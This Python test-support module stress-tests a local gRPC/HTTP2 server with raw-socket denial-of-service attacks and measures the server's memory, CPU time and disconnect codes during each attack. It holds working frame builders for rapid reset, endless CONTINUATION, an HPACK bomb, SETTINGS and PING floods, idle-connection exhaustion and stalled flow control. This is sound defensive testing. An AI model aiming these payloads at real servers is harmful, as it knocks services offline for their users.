"""Attacks on a real server process, as an outsider makes them: bytes over sockets, and no manners.

    PYTHONPATH=tests python -m support.attacks                 # every attack, about two minutes
    PYTHONPATH=tests python -m support.attacks settings reset  # those whose name contains a word

prints for each how much more memory the server held at its worst, how much processor time it
took at most while a bystander waited for one answer, and how the abusers were ended. The
processor's time and not the clock's, since the attack runs on the same machine.
"""

import contextlib
import re
import select
import socket
import struct
import sys
import threading
import time
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, field
from pathlib import Path

from hpack import Encoder

from support.http2_peer import PREFACE, message, raw
from support.server_process import ServerProcess

DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
ROUTING = "/ipfs_kit_py.routing.RoutingService/"
REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
CANCEL = raw(3, b"\0\0\0\x08")[9:]
PATIENCE_S = 30.0


def block(path: str, *more: tuple[str, str]) -> bytes:
    """The header block of a call, which neither needs nor changes the dynamic table."""
    fields = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "test")]
    fields += [("te", "trailers"), ("content-type", "application/grpc"), *more]
    return Encoder().encode([(name, value, True) for name, value in fields])


SELECT, INSIGHTS = block(ROUTING + "SelectBackend"), block(ROUTING + "GetInsights")
REFLECT = block(REFLECTION)
GREETING = PREFACE + raw(SETTINGS)
NO_WINDOW = PREFACE + raw(SETTINGS, b"\0\4\0\0\0\0")
LONG_LIST = SELECT + b"\x00\x01a\x01b" * 450
HUFFMAN = block(ROUTING + "SelectBackend", ("x", "a" * 15_500))


def nth(number: int) -> int:
    """The client's stream of this number, from 0 on."""
    return 2 * number + 1 & 0x7FFF_FFFF


def settings(identifiers: Sequence[int]) -> bytes:
    return raw(SETTINGS, b"".join(struct.pack(">HI", one, 1) for one in identifiers))


def whole_call(stream: int, headers: bytes = SELECT) -> bytes:
    return raw(HEADERS, headers, stream=stream, flags=END_HEADERS) + raw(
        DATA, message(), stream=stream, flags=END_STREAM
    )


def resets(turn: int) -> bytes:
    streams = range(100 * turn, 100 * turn + 100)
    return b"".join(
        raw(HEADERS, SELECT, stream=nth(one), flags=END_HEADERS) + raw(RST_STREAM, CANCEL, stream=nth(one))
        for one in streams
    )


def after_reset(frame: bytes) -> Callable[[int], bytes]:
    """Frames on a stream that the attacker has reset."""
    begun = raw(HEADERS, SELECT, stream=1, flags=END_HEADERS) + raw(RST_STREAM, CANCEL, stream=1)
    return lambda turn: (b"" if turn else begun) + frame * 1_000


def on_a_stream(frames: bytes) -> Callable[[int], bytes]:
    """Frames on a stream that takes as many messages as its client likes."""
    begun = raw(HEADERS, REFLECT, stream=1, flags=END_HEADERS)
    return lambda turn: (b"" if turn else begun) + frames


def held(turn: int) -> bytes | None:
    """Parts of sixteen large requests, a megabyte each, that never end."""
    stream = nth(turn // 64)
    begun = raw(HEADERS, SELECT, stream=stream, flags=END_HEADERS) + raw(
        DATA, message(length=4 << 20), stream=stream
    )
    return None if turn >= 1024 else (b"" if turn % 64 else begun) + raw(DATA, b"x" * 16_379, stream=stream)


@dataclass(frozen=True)
class Attack:
    """`send` gives what goes out in each turn, or None to wait with what is there. `reads` is
    False for one that does not even take what the server says. The server may keep `most_mb`."""

    send: Callable[[int], bytes | None]
    connections: int = 1
    greeting: bytes = GREETING
    reads: bool = True
    reconnects: bool = False
    cut_off: bool = True
    most_mb: float = 20.0


ATTACKS: dict[str, Attack] = {
    "rapid reset": Attack(resets),
    "rapid reset, 20 connections that come back": Attack(resets, 20, reconnects=True, cut_off=False),
    "resets provoked from the server": Attack(
        lambda turn: b"".join(
            raw(HEADERS, b"\x83\x86", stream=nth(one), flags=5) for one in range(100 * turn, 100 * turn + 100)
        )
    ),
    "ends of a stream that was reset": Attack(after_reset(raw(DATA, stream=1, flags=1)), reads=False),
    "HEADERS of a stream that was reset": Attack(
        after_reset(raw(HEADERS, b"\x83", stream=1, flags=5)), reads=False
    ),
    "settings by the thousand": Attack(lambda turn: settings(range(100, 2_800))),
    "unknown settings, a few at a time": Attack(
        lambda turn: b"".join(settings(range(16 + first, 48 + first)) for first in range(0, 64_000, 32))
    ),
    "table size updates": Attack(
        lambda turn: raw(HEADERS, b"\x20" * (16_384 - len(SELECT)) + SELECT, stream=nth(turn), flags=5)
    ),
    "endless CONTINUATION": Attack(
        lambda turn: (b"" if turn else raw(HEADERS, SELECT, stream=1)) + raw(CONTINUATION, stream=1) * 100
    ),
    "HPACK bomb": Attack(
        lambda turn: raw(
            HEADERS,
            SELECT + b"\x40\x01a\x7f\xa1\x1e" + b"x" * 4_000 + b"\xbe" * 10_000,
            stream=nth(turn),
            flags=5,
        )
    ),
    "header lists of 450 fields": Attack(
        lambda turn: raw(HEADERS, LONG_LIST, stream=nth(turn), flags=5), cut_off=False
    ),
    "Huffman codes of 15 KB, 20 connections": Attack(
        lambda turn: raw(HEADERS, HUFFMAN, stream=nth(turn), flags=5), 20, cut_off=False
    ),
    "PING": Attack(lambda turn: raw(PING, b"12345678") * 500),
    "PING, 50 connections that come back": Attack(
        lambda turn: raw(PING, b"12345678") * 500, 50, reconnects=True, cut_off=False
    ),
    "SETTINGS": Attack(lambda turn: raw(SETTINGS, b"\0\4\0\0\xff\xff") * 500),
    "unknown frames": Attack(lambda turn: raw(0xBE, b"x" * 16_384)),
    "empty DATA": Attack(on_a_stream(raw(DATA, stream=1) * 500)),
    "one-byte DATA": Attack(on_a_stream(raw(DATA, b"\0", stream=1) * 500)),
    "a frame of 16 MB": Attack(
        lambda turn: b"x" * 65_536 if turn else raw(DATA, stream=1, length=(16 << 20) - 1)
    ),
    "parts of requests": Attack(held, cut_off=False),
    "parts of requests, 20 connections": Attack(held, 20, cut_off=False, most_mb=40.0),
    "no window for 200 answers": Attack(
        lambda turn: whole_call(nth(turn), INSIGHTS) if turn < 200 else None,
        greeting=NO_WINDOW,
        reads=False,
        cut_off=False,
    ),
    "questions without end, answers unread": Attack(
        on_a_stream(raw(DATA, message(b"\x1a\x0drouting.proto") * 100, stream=1)),
        reads=False,
        cut_off=False,
    ),
    "500 connections that say nothing": Attack(lambda turn: None, 500, greeting=b"", cut_off=False),
    "500 connections in the middle of their greeting": Attack(
        lambda turn: None, 500, greeting=PREFACE[:10], cut_off=False
    ),
}  # fmt: skip


@dataclass
class Seen:
    """What an attack did: megabytes more than before, processor milliseconds during one answer
    to the bystander at most, its answers, connections that the server ended, and the codes
    and reasons of its GOAWAYs."""

    more_mb: float = 0.0
    during_answer_ms: float = 0.0
    answers: int = 0
    ended: int = 0
    goodbyes: set[tuple[int, str]] = field(default_factory=set)


class Attacker:
    """One connection of an attack. Not blocking, not reading more than it must."""

    def __init__(self, server: ServerProcess, attack: Attack) -> None:
        self.socket = socket.create_connection((server.host, server.port), PATIENCE_S)
        self.socket.setblocking(False)
        self._attack = attack
        self._rest = attack.greeting
        self._turn = 0
        self.waits = False
        self.read = b""

    def go_on(self) -> None:
        """Reads and writes what it can; ConnectionError once the server has ended it."""
        if self._attack.reads:
            with contextlib.suppress(BlockingIOError):
                self._take()
        if not self._rest:
            more = self._attack.send(self._turn)
            self._turn, self.waits, self._rest = self._turn + 1, more is None, more or b""
        with contextlib.suppress(BlockingIOError):
            self._rest = self._rest[self.socket.send(self._rest) :]

    def _take(self) -> None:
        data = self.socket.recv(1 << 16)
        if not data:
            raise ConnectionResetError
        self.read = (self.read + data)[-400:]

    def goodbye(self) -> tuple[int, str] | None:
        """What the server said in the end."""
        self.socket.settimeout(0.5)
        with contextlib.suppress(OSError):
            while True:
                self._take()
        self.socket.close()
        at = self.read.rfind(b"\x07\0\0\0\0\0")
        said = self.read[at + 10 :]
        return (int.from_bytes(said[:4]), said[4:].decode(errors="replace")) if at >= 0 else None


class Bystander(threading.Thread):
    """Asks for a decision again and again, on a connection of its own."""

    def __init__(self, server: ServerProcess, seen: Seen) -> None:
        super().__init__(daemon=True)
        self._server = server
        self._seen = seen
        self.warm = threading.Event()
        self.over = threading.Event()
        self.failed: Exception | None = None

    def run(self) -> None:
        try:
            with socket.create_connection((self._server.host, self._server.port), PATIENCE_S) as ours:
                ours.sendall(GREETING + raw(WINDOW_UPDATE, b"\x7f\0\0\0"))
                answers = ours.makefile("rb")
                while not self.over.wait(0.02):
                    before = processor_ms(self._server)
                    ours.sendall(whole_call(nth(self._seen.answers)))
                    while not ends(answers.read(9), answers, nth(self._seen.answers)):
                        pass
                    taken = processor_ms(self._server) - before
                    self._seen.during_answer_ms = max(self._seen.during_answer_ms, taken)
                    self._seen.answers += 1
                    if self._seen.answers == 5:
                        self.warm.set()
        except (OSError, ValueError) as error:
            self.failed = error


def ends(head: bytes, rest: "socket.SocketIO", stream: int) -> bool:  # type: ignore[name-defined]
    """Reads one frame; whether it ends this stream."""
    if len(head) < 9:
        raise ConnectionResetError("the bystander was cut off")
    rest.read(int.from_bytes(head[:3]))
    return head[3] == HEADERS and bool(head[4] & END_STREAM) and int.from_bytes(head[5:]) == stream


def processor_ms(server: ServerProcess) -> float:
    """Processor time of the server's main thread so far."""
    return int(Path(f"/proc/{server.process.pid}/schedstat").read_text().split()[0]) / 1e6


def memory_mb(server: ServerProcess, what: str) -> float:
    status = Path(f"/proc/{server.process.pid}/status").read_text()
    found = re.search(rf"{what}:\s+(\d+)", status)
    assert found
    return int(found[1]) / 1024


def attack(server: ServerProcess, one: Attack, seconds: float) -> Seen:
    """Attacks the server for so long, or until it has ended every connection."""
    seen = Seen()
    bystander = Bystander(server, seen)
    bystander.start()
    assert bystander.warm.wait(PATIENCE_S), bystander.failed
    seen.during_answer_ms = 0.0
    before = memory_mb(server, "VmRSS")
    Path(f"/proc/{server.process.pid}/clear_refs").write_text("5")
    for attacker in _attackers(server, one, seconds, seen):
        said = attacker.goodbye()
        seen.goodbyes |= {said} if said else set()
        seen.ended += 1
    seen.more_mb = memory_mb(server, "VmHWM") - before
    bystander.over.set()
    bystander.join(PATIENCE_S)
    assert bystander.failed is None, bystander.failed
    return seen


def _attackers(server: ServerProcess, one: Attack, seconds: float, seen: Seen) -> Iterator[Attacker]:
    """Keeps the attack up; yields each connection that the server has ended."""
    attackers = [Attacker(server, one) for _ in range(one.connections)]
    until = time.monotonic() + seconds
    while attackers and time.monotonic() < until:
        for attacker in list(attackers):
            try:
                attacker.go_on()
            except ConnectionError:
                attackers.remove(attacker)
                yield attacker
                if one.reconnects:
                    attackers.append(Attacker(server, one))
        if all(attacker.waits for attacker in attackers):
            select.select([], [], [], 0.05)
    for attacker in attackers:
        attacker.socket.close()


def main(words: Sequence[str]) -> None:
    print(f"{'attack':52} {'MB more':>8} {'ms of processor during an answer':>33}   ended with")
    for name, one in ATTACKS.items():
        if words and not any(word in name for word in words):
            continue
        with ServerProcess() as server:
            seen = attack(server, one, 3.0)
        said = ", ".join(f"{code} {reason}" for code, reason in sorted(seen.goodbyes))
        print(f"{name:52} {seen.more_mb:8.1f} {seen.during_answer_ms:33.0f}   {said or '-'}", flush=True)


if __name__ == "__main__":
    main(sys.argv[1:])
